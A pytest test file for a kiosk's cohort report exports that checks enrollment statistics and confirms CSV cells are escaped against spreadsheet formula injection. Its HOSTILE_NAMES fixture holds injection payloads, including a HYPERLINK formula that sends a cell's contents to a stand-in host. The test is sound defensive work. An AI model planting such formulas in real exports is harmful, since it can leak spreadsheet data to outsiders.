"""`kiosk cohort report`: JSON, CSV and text from a cohort whose people really went through the
kiosk's steps (AuthFlow on a real SQLite file), with a fixed clock so the minutes are known.

What staff rely on: the numbers are right (median minutes, where unfinished people stopped, who
missed the deadline), the CSV reads back with any CSV reader, and a name someone typed into a
spreadsheet cannot run as a formula when the export is opened in one.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, time, timedelta

import pytest

from kiosk.config import Settings
from kiosk.core import totp
from kiosk.core.cohorts import NewPerson
from kiosk.core.flow import AuthFlow, Method, Step
from kiosk.core.service import KioskService
from kiosk.errors import AuthenticationFailed
from kiosk.reports import PERSON_FIELDS, report_as_csv, report_as_json, report_as_text

from .conftest import PASSWORD, SOURCE, FakeClock

COHORT = "March hires"


def _start() -> datetime:
    """Two hours or more ago, 5 s into a TOTP step, and not late in the evening (the first
    enrollments must fall on the deadline day). Not in the future: the audit's rows (failed
    attempts) carry the wall clock's time, and they count from when a person joined."""
    start = datetime.now(UTC).replace(second=5, microsecond=0) - timedelta(hours=2)
    if start.hour >= 23:
        start -= timedelta(hours=2)
    return start


START = _start()
DEADLINE = START.date()
NEXT_MORNING = datetime.combine(DEADLINE + timedelta(days=1), time(8, 0, 5), UTC)
NEW_PASSWORD = "a brand new passphrase"
HOSTILE_NAMES = {
    "hal@example.com": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "ivy@example.com": "+SUM(1,2)",
    "jon@example.com": "-2+3",
    "kim@example.com": "@cmd",
}


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(START.timestamp())


@pytest.fixture
def svc(sqlite_settings: Settings, clock: FakeClock) -> Iterator[KioskService]:
    service = KioskService.open(sqlite_settings, clock=clock)
    yield service
    service.close()


def _sign_in(svc: KioskService, email: str, secret: str) -> AuthFlow:
    flow = AuthFlow(svc, SOURCE)
    step = flow.submit_password(email, secret)
    if step == Step.CREATE_PASSWORD:
        assert flow.create_password(NEW_PASSWORD, NEW_PASSWORD) == Step.MFA_REQUIRED
    return flow


def _set_up(flow: AuthFlow) -> str:
    flow.start_setup()
    return flow.choose_method(Method.AUTHENTICATOR_APP).secret


def _finish(svc: KioskService, flow: AuthFlow, secret: str) -> None:
    flow.continue_to_code()
    flow.verify_setup_code(totp.code_at_step(secret, totp.current_step(svc.ctx.clock)))
    assert flow.finish_enrollment(saved=True) == Step.SIGNED_IN


def _iso(moment: datetime) -> str:
    return moment.replace(tzinfo=None).isoformat() + "Z"


def _minutes(clock: FakeClock, minutes: float) -> None:
    clock.advance(minutes * 60)


@pytest.fixture
def report_svc(svc: KioskService, clock: FakeClock) -> KioskService:
    """A cohort with people at every stage:

    ana (no password, a pass) enrolls in 3 min and gus in 5 min on the deadline day; cam signed
    in (one wrong password first); dee and eve are setting up; fay never came; ben signs in the
    next day and enrolls in 8 min, after the deadline. The four hostile names never came either.
    """
    for email in (
        "ben@example.com",
        "cam@example.com",
        "dee@example.com",
        "eve@example.com",
        "gus@example.com",
    ):
        svc.accounts.add_user(email, PASSWORD)
    people = [
        NewPerson("ana@example.com", "Ana Souza"),
        NewPerson("ben@example.com", "Ben Okafor"),
        NewPerson("cam@example.com", "Cam Lee"),
        NewPerson("dee@example.com"),
        NewPerson("eve@example.com", "Eve Zoë Núñez"),
        NewPerson("fay@example.com", "Fay"),
        NewPerson("gus@example.com", "Gus"),
        *(NewPerson(email, name) for email, name in HOSTILE_NAMES.items()),
    ]
    svc.cohorts.create(COHORT, people, deadline=DEADLINE, staff="it-alice")
    issued = svc.passes.issue("ana@example.com", staff="it-alice")

    ana = _sign_in(svc, "ana@example.com", issued.text)
    gus = _sign_in(svc, "gus@example.com", PASSWORD)
    with pytest.raises(AuthenticationFailed):
        AuthFlow(svc, SOURCE).submit_password("cam@example.com", "not the password")
    _sign_in(svc, "cam@example.com", PASSWORD)
    _set_up(_sign_in(svc, "dee@example.com", PASSWORD))
    _set_up(_sign_in(svc, "eve@example.com", PASSWORD))
    ana_secret, gus_secret = _set_up(ana), _set_up(gus)
    _minutes(clock, 3)
    _finish(svc, ana, ana_secret)
    _minutes(clock, 2)
    _finish(svc, gus, gus_secret)

    clock.t = NEXT_MORNING.timestamp()
    ben = _sign_in(svc, "ben@example.com", PASSWORD)
    ben_secret = _set_up(ben)
    _minutes(clock, 8)
    _finish(svc, ben, ben_secret)
    return svc


def test_json_has_every_person_and_the_summary(report_svc: KioskService) -> None:
    report = report_as_json(report_svc.cohorts.report(COHORT))
    json.dumps(report)  # JSON-ready as it is
    people = {p["email"]: p for p in report["people"]}  # type: ignore[attr-defined]
    assert len(people) == 11
    assert all(tuple(p) == PERSON_FIELDS for p in people.values())
    assert people["ana@example.com"] == {
        "email": "ana@example.com",
        "name": "Ana Souza",
        "state": "enrolled",
        "enrolled_at": _iso(START + timedelta(minutes=3)),
        "minutes_to_enroll": 3.0,
        "failed_attempts": 0,
        "passes_issued": 1,
        "missed_deadline": False,
    }
    assert people["gus@example.com"]["minutes_to_enroll"] == 5.0
    assert people["ben@example.com"]["enrolled_at"] == _iso(NEXT_MORNING + timedelta(minutes=8))
    assert people["ben@example.com"]["minutes_to_enroll"] == 8.0
    assert people["ben@example.com"]["missed_deadline"] is True
    assert people["cam@example.com"]["state"] == "signed_in"
    assert people["cam@example.com"]["failed_attempts"] == 1
    assert people["cam@example.com"]["enrolled_at"] is None
    assert people["cam@example.com"]["minutes_to_enroll"] is None
    assert people["dee@example.com"]["name"] is None
    assert people["eve@example.com"]["name"] == "Eve Zoë Núñez"
    assert people["fay@example.com"]["state"] == "not_started"

    summary = report["summary"]
    assert summary == {
        "total": 11,
        "counts": {
            "not_started": 5,
            "signed_in": 1,
            "setting_up": 2,
            "code_confirmed": 0,
            "enrolled": 3,
        },
        "completion_percent": 27.3,
        "median_minutes_to_enroll": 5.0,  # of 3, 5 and 8
        "most_common_stop": "not_started",
        "missed_deadline": sorted(set(people) - {"ana@example.com", "gus@example.com"}),
        "deadline": DEADLINE.isoformat(),
    }


def test_most_common_stop_is_where_unfinished_people_are(
    report_svc: KioskService, clock: FakeClock
) -> None:
    """Taking the five who never came out of the cohort leaves setting_up (dee, eve) ahead of
    signed_in (cam); the enrolled are never a 'stop'."""
    for email in ("fay@example.com", *HOSTILE_NAMES):
        report_svc.cohorts.remove_member(COHORT, email, staff="it-alice")
    summary = report_as_json(report_svc.cohorts.report(COHORT))["summary"]
    assert summary["most_common_stop"] == "setting_up"  # type: ignore[index]
    assert summary["completion_percent"] == 50.0  # type: ignore[index]


def test_no_deadline_means_nobody_missed_it(svc: KioskService) -> None:
    svc.cohorts.create("open", [NewPerson("zed@example.com")], staff="it")
    report = svc.cohorts.report("open")
    data = report_as_json(report)
    assert data["summary"]["missed_deadline"] == []  # type: ignore[index]
    assert data["summary"]["deadline"] is None  # type: ignore[index]
    assert data["summary"]["median_minutes_to_enroll"] is None  # type: ignore[index]
    assert data["people"][0]["missed_deadline"] is False  # type: ignore[index]
    assert "Missed the deadline" not in report_as_text(report)


def test_csv_reads_back_one_row_per_person(report_svc: KioskService) -> None:
    text = report_as_csv(report_svc.cohorts.report(COHORT))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == PERSON_FIELDS
    by_email = {row["email"]: row for row in rows}
    assert len(rows) == len(by_email) == 11
    assert by_email["ana@example.com"] == {
        "email": "ana@example.com",
        "name": "Ana Souza",
        "state": "enrolled",
        "enrolled_at": _iso(START + timedelta(minutes=3)),
        "minutes_to_enroll": "3.0",
        "failed_attempts": "0",
        "passes_issued": "1",
        "missed_deadline": "false",
    }
    assert by_email["dee@example.com"]["name"] == ""
    assert by_email["dee@example.com"]["enrolled_at"] == ""
    assert by_email["eve@example.com"]["name"] == "Eve Zoë Núñez"
    assert by_email["ben@example.com"]["missed_deadline"] == "true"


def test_csv_cells_cannot_run_as_spreadsheet_formulas(report_svc: KioskService) -> None:
    text = report_as_csv(report_svc.cohorts.report(COHORT))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    by_email = {row["email"]: row for row in rows}
    for email, name in HOSTILE_NAMES.items():
        assert by_email[email]["name"] == "'" + name  # shown as text, the name itself intact
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_text_report_is_a_table_and_summary_lines(report_svc: KioskService) -> None:
    text = report_as_text(report_svc.cohorts.report(COHORT))
    lines = text.splitlines()
    assert lines[0].split() == [
        "EMAIL",
        "NAME",
        "STATE",
        "ENROLLED",
        "(UTC)",
        "TIME",
        "FAILED",
        "PASSES",
        "LATE",
    ]
    ana = next(line for line in lines if line.startswith("ana@example.com"))
    assert "Ana Souza" in ana and "enrolled" in ana
    assert f"{START + timedelta(minutes=3):%Y-%m-%d %H:%M}" in ana
    assert "3 min" in ana
    ben = next(line for line in lines if line.startswith("ben@example.com"))
    assert ben.endswith("yes")
    # Columns line up: every person's state starts in the same column as the header's.
    column = lines[0].index("STATE")
    for line in lines[2:13]:
        assert line[column:].split()[0] in {"enrolled", "signed_in", "setting_up", "not_started"}
    assert "Enrolled: 3 of 11 (27.3 %)" in lines
    assert "Median time from first sign-in to enrolled: 5 min" in lines
    assert "Where most unfinished people stopped: not started (never signed in at the kiosk)" in (
        lines
    )
    missed = next(line for line in lines if line.startswith("Missed the deadline (9): "))
    assert "ben@example.com" in missed and "ana@example.com" not in missed
    assert all(ch.isprintable() for line in lines for ch in line)
